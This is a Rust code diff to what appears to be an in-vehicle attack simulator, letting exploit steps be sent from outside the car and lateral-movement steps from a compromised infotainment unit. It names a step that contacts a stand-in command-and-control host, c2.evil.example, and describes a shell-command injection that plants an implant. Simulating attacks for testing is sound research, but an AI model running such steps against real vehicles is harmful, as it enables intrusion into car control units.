@@ -38,7 +38,14 @@ pub struct Attacker<'a> {
     pub ivi_media: SocketAddr,
     /// How long the attacker keeps trying once its first requests were refused.
     pub persistence: Duration,
+    /// Only the steps sent from here (`OUTSIDE` or an ECU's name); `None`: every step. On
+    /// separate hosts each part runs where its packets come from: the exploit outside the car,
+    /// the lateral movement on the compromised IVI.
+    pub from: Option<String>,
 }
+
+/// Where the exploit comes from: not a host of the vehicle.
+pub const OUTSIDE: &str = "outside";
 
 const REPLY_TIMEOUT: Duration = Duration::from_millis(500);
 /// The shell command the exploit injects: plant an implant in the read-only system tree and
@@ -101,9 +108,14 @@ impl Attacker<'_> {
     }
 
     fn reference(&self, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
+        if self.sends_from(OUTSIDE) {
+            out(step("exploit", OUTSIDE, self.exploit()));
+        }
+        if !self.sends_from("ivi") {
+            return Ok(());
+        }
         let ivi = self.caller("ivi")?;
         let from = ivi.ip.to_string();
-        out(step("exploit", "outside", self.exploit()));
         out(step(
             "dns c2.evil.example",
             &from,
@@ -132,13 +144,21 @@ impl Attacker<'_> {
     }
 
     fn benign(&self, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
-        let ivi = self.caller("ivi")?;
-        let tcu = self.caller("tcu")?;
-        out(self.call(&ivi, &LOCK));
-        out(self.call(&ivi, &SET_TEMPERATURE));
-        out(self.call(&ivi, &GET_STATE));
-        out(self.call(&tcu, &UNLOCK));
+        if self.sends_from("ivi") {
+            let ivi = self.caller("ivi")?;
+            out(self.call(&ivi, &LOCK));
+            out(self.call(&ivi, &SET_TEMPERATURE));
+            out(self.call(&ivi, &GET_STATE));
+        }
+        if self.sends_from("tcu") {
+            let tcu = self.caller("tcu")?;
+            out(self.call(&tcu, &UNLOCK));
+        }
         Ok(())
+    }
+
+    fn sends_from(&self, place: &str) -> bool {
+        self.from.as_deref().is_none_or(|from| from == place)
     }
 
     /// An ECU as the topology declares it: its address and its own client ID.
